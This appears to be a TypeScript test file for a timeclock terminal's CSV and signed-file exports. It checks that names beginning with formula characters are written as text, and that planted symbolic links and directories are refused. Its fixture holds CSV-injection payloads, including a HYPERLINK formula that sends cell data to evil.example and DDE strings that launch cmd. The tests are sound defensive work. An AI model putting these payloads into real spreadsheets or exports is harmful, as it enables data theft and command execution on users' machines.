/**
 * Issue 25 items 2 and 4, through the real exports of a terminal that took punches (the agent's
 * admin calls, as the bridges invoke them, and the built `timeclock afd export`), the files read
 * back from the disk:
 * - the punch CSV writes a name that starts like a formula (=, +, -, @, tab, CR) as text;
 * - no export writes through a symbolic link planted under its file's name (the file it points at
 *   stays as it was), over a directory planted there, or into a folder that is a link; each is
 *   refused with a clear answer, and no temporary file is left behind.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Agent } from '../../src/agent/facade/agent.js';
import { startMockServer } from '../../src/mock/mock-server.js';
import { demoSeed } from '../../src/mock/seed.js';
import { EMPLOYER, makeP12, spInstant, TERMINAL, TERMINAL_NAME as ANNEX_NAME, writeConfig } from '../helpers/afd.js';
import { testAgent } from '../helpers/agent.js';
import { runCli } from '../helpers/cli.js';
import { fakeDrive } from '../helpers/fake-drive.js';
import { tempDir, waitFor } from '../helpers/temp.js';

/** Names as a hostile roster could send them: each starts with one of OWASP's formula characters. */
const HOSTILE: ReadonlyArray<readonly [string, string]> = [
  ['1001', '=HYPERLINK("http://evil.example/?"&A1,"Ana")'],
  ['1002', "+cmd|' /C calc'!A0"],
  ['1003', '-2+3+cmd|" /C calc"!A0'],
  ['1004', '@SUM(1+1)*cmd|" /C calc"!A0'],
  ['1005', '\t=1+1'],
  ['1006', '\r=1+1'],
];
const DAY = '2026-08-03';
const CSV_NAME = `punches_${DAY}_${DAY}.csv`;

const cleanups: Array<() => Promise<void> | void> = [];
const tmp = tempDir('timeclock-export-files-');
const dataDir = path.join(tmp.dir, 'data');
const stick = path.join(tmp.dir, 'media', 'kiosk', 'STICK');
/** Stands for the punch database a planted link points at: it must never change. */
const victim = path.join(tmp.dir, 'victim.sqlite');
const VICTIM_BYTES = Buffer.from('SQLite format 3\0 the real punches', 'latin1');
let agent: Agent;

const csvAt = (folder: string) => path.join(stick, folder, CSV_NAME);
const afdFolder = path.join(stick, `AFD_${DAY}_${DAY}`);

/** Nothing but `names` in `dir`: no temporary file left behind. */
const onlyThere = (dir: string, names: string[]) => expect(fs.readdirSync(dir).sort()).toEqual([...names].sort());

const victimUnchanged = () => expect(fs.readFileSync(victim)).toEqual(VICTIM_BYTES);

/** The CSV's records (RFC 4180, CR LF between records; fields quoted with "" doubled). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((field += '"'), i++);
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') (row.push(field), (field = ''));
    else if (c === '\r' && text[i + 1] === '\n') (row.push(field), rows.push(row), (row = []), (field = ''), i++);
    else field += c;
  }
  return rows;
}

beforeAll(async () => {
  const root = tmp.dir;
  const drive = fakeDrive(root, { device: '/dev/sdc1', mountPoint: stick });
  fs.writeFileSync(victim, VICTIM_BYTES);
  const { p12 } = makeP12(root, 'senha');

  const seed = demoSeed();
  for (const [id, name] of HOSTILE) {
    const e = seed.employees.find((x) => x.external_id === id);
    if (!e) throw new Error(`the demo seed has no ${id}`);
    e.full_name = name;
  }
  const clock = { t: spInstant(DAY, '07:00'), now: () => clock.t };
  const mock = await startMockServer({ seed, rateLimit: { limit: 60, windowMs: 1_000 }, clock });
  cleanups.push(() => mock.close());
  agent = testAgent({
    dataDir,
    mock,
    clock,
    settings: { employer: EMPLOYER, terminalId: TERMINAL, afd: { signingKey: p12, signingKeyPassword: 'senha' } },
    afdDrives: drive.roots,
  });
  cleanups.push(() => agent.stop());
  await agent.start({ awaitRosterIfEmpty: true });
  for (const [i, [id]] of HOSTILE.entries()) {
    clock.t = spInstant(DAY, `08:0${i}`);
    const r = await agent.punch({ kind: 'id', value: id });
    if (!r.ok) throw new Error(`punch ${id} refused: ${JSON.stringify(r)}`);
  }
  await waitFor(() => agent.status().queue.sent === HOSTILE.length, 'the punches delivered');
});
afterAll(async () => {
  while (cleanups.length) await cleanups.pop()?.();
  tmp.cleanup();
});

describe('the punch CSV for a spreadsheet', () => {
  it('writes every name that starts like a formula as text (a leading apostrophe), the rest of the cell as it was', async () => {
    const r = await agent.afd.punches.exportCsv({ from: DAY, to: DAY, target: { kind: 'drive', path: stick } });
    expect(r).toMatchObject({ ok: true, rows: HOSTILE.length });
    const rows = parseCsv(fs.readFileSync(csvAt('PUNCHES'), 'utf8').slice(1));
    expect(rows[0]?.[3]).toBe('employee_name');
    const byId = new Map(rows.slice(1).map((row) => [row[2], row[3]]));
    for (const [id, name] of HOSTILE) expect(byId.get(id), JSON.stringify(name)).toBe(`'${name}`);
    // No cell of the file starts with a formula character any more.
    for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('exports on a drive someone prepared', () => {
  it('the CSV: a link under the file’s name is refused, the file it points at unchanged', async () => {
    const folder = path.join(stick, 'PUNCHES');
    fs.rmSync(folder, { recursive: true, force: true });
    fs.mkdirSync(folder);
    fs.symlinkSync(victim, csvAt('PUNCHES'));
    const r = await agent.afd.punches.exportCsv({ from: DAY, to: DAY, target: { kind: 'drive', path: stick } });
    expect(r).toEqual({ ok: false, code: 'target_unsafe', params: { file: CSV_NAME } });
    victimUnchanged();
    expect(fs.lstatSync(csvAt('PUNCHES')).isSymbolicLink()).toBe(true);
    onlyThere(folder, [CSV_NAME]);
  });

  it('the CSV: a directory under the file’s name is refused and left as it was', async () => {
    const folder = path.join(stick, 'PUNCHES');
    fs.rmSync(folder, { recursive: true, force: true });
    fs.mkdirSync(path.join(folder, CSV_NAME), { recursive: true });
    fs.writeFileSync(path.join(folder, CSV_NAME, 'inside.txt'), 'kept');
    const r = await agent.afd.punches.exportCsv({ from: DAY, to: DAY, target: { kind: 'drive', path: stick } });
    expect(r).toEqual({ ok: false, code: 'target_unsafe', params: { file: CSV_NAME } });
    expect(fs.readdirSync(path.join(folder, CSV_NAME))).toEqual(['inside.txt']);
    onlyThere(folder, [CSV_NAME]);
  });

  it('the CSV: a folder that is a link (into the data directory, say) is refused, nothing written there', async () => {
    const elsewhere = path.join(tmp.dir, 'not-the-drive');
    fs.mkdirSync(elsewhere);
    fs.rmSync(path.join(stick, 'PUNCHES'), { recursive: true, force: true });
    fs.symlinkSync(elsewhere, path.join(stick, 'PUNCHES'));
    const r = await agent.afd.punches.exportCsv({ from: DAY, to: DAY, target: { kind: 'drive', path: stick } });
    expect(r).toEqual({ ok: false, code: 'target_unsafe', params: { file: 'PUNCHES' } });
    expect(fs.readdirSync(elsewhere)).toEqual([]);
    // Once the drive is clean, the export works and replaces its own earlier file.
    fs.rmSync(path.join(stick, 'PUNCHES'));
    expect(
      await agent.afd.punches.exportCsv({ from: DAY, to: DAY, target: { kind: 'drive', path: stick } }),
    ).toMatchObject({ ok: true });
    expect(
      await agent.afd.punches.exportCsv({ from: DAY, to: DAY, target: { kind: 'drive', path: stick } }),
    ).toMatchObject({ ok: true });
    onlyThere(path.join(stick, 'PUNCHES'), [CSV_NAME]);
  });

  it('the AFD: a link under its name or its .p7s is refused, the file it points at unchanged', async () => {
    for (const name of [ANNEX_NAME, `${ANNEX_NAME}.p7s`]) {
      fs.rmSync(afdFolder, { recursive: true, force: true });
      fs.mkdirSync(afdFolder);
      fs.symlinkSync(victim, path.join(afdFolder, name));
      const r = await agent.afd.export({ from: DAY, to: DAY, target: { kind: 'drive', path: stick } });
      expect(r, name).toEqual({ ok: false, code: 'target_unsafe', params: { file: name } });
      victimUnchanged();
      onlyThere(afdFolder, [name]);
    }
  });

  it('the AFD: a directory under its name or its .p7s is refused and left as it was', async () => {
    for (const name of [ANNEX_NAME, `${ANNEX_NAME}.p7s`]) {
      fs.rmSync(afdFolder, { recursive: true, force: true });
      fs.mkdirSync(path.join(afdFolder, name), { recursive: true });
      const r = await agent.afd.export({ from: DAY, to: DAY, target: { kind: 'drive', path: stick } });
      expect(r, name).toEqual({ ok: false, code: 'target_unsafe', params: { file: name } });
      expect(fs.statSync(path.join(afdFolder, name)).isDirectory()).toBe(true);
      onlyThere(afdFolder, [name]);
    }
    // A clean folder: the signed AFD and its .p7s are written (and written again over our own).
    fs.rmSync(afdFolder, { recursive: true, force: true });
    expect(await agent.afd.export({ from: DAY, to: DAY, target: { kind: 'drive', path: stick } })).toMatchObject({
      ok: true,
      signed: true,
      marks: HOSTILE.length,
    });
    expect(await agent.afd.export({ from: DAY, to: DAY, target: { kind: 'drive', path: stick } })).toMatchObject({
      ok: true,
      signed: true,
    });
    onlyThere(afdFolder, [ANNEX_NAME, `${ANNEX_NAME}.p7s`]);
  });

  it('timeclock afd export --out: a link or a directory at the path is refused (exit 1, saying what it is), the file it points at unchanged', async () => {
    const out = path.join(tmp.dir, 'out');
    fs.mkdirSync(out);
    const config = writeConfig(path.join(tmp.dir, 'afd-config.json'), { employer: EMPLOYER, terminalId: TERMINAL });
    const env = { TIMECLOCK_DATA_DIR: dataDir, TIMECLOCK_CONFIG: config, HOME: tmp.dir };
    const link = path.join(out, 'march.txt');
    fs.symlinkSync(victim, link);
    const viaLink = await runCli(['afd', 'export', '--from', DAY, '--to', DAY, '--out', link], env);
    expect(viaLink.code).toBe(1);
    expect(viaLink.stderr).toContain(`${link} is a symbolic link`);
    victimUnchanged();
    // A directory planted under the Annex's name inside the chosen directory.
    fs.mkdirSync(path.join(out, ANNEX_NAME));
    const overDir = await runCli(['afd', 'export', '--from', DAY, '--to', DAY, '--out', `${out}/`], env);
    expect(overDir.code).toBe(1);
    expect(overDir.stderr).toContain(`${path.join(out, ANNEX_NAME)} is a directory`);
    onlyThere(out, ['march.txt', ANNEX_NAME]);
    expect(fs.readdirSync(path.join(out, ANNEX_NAME))).toEqual([]);
  });
});
